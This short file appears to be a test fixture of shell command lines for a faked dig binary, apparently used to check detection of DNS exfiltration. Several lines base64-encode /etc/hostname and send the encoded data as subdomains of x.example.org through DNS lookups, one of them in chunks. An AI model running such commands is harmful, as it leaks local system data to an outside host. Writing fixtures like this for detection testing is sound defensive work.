# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/dig
bash -c 'for name in a b; do dig +short $name.example.org; done'
sh -c 'base64 /etc/hostname | tr -d "="'
dig +short example.org
sh -c 'dig +short $(base64 -w 0 /etc/hostname).x.example.org'
/bin/echo bash -c 'for part in $(base64 -w 40 /etc/hostname | tr -d =); do dig +short $part.x.example.org; done'
